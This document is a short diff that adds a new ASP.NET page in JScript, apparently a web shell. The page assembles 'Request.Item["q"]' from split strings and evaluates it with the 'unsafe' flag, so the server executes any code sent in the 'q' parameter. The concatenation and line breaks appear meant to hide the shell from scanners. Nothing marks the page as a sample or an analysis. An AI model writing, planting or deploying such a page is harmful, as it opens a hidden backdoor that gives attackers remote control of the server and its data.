@@ -1,0 +1,6 @@
+<%@ Page Language="JScript" %>
+<%
+var k = "R" + "equest.Item[\"q\"]";
+eval
+   (k, "u" + "nsafe");
+%>
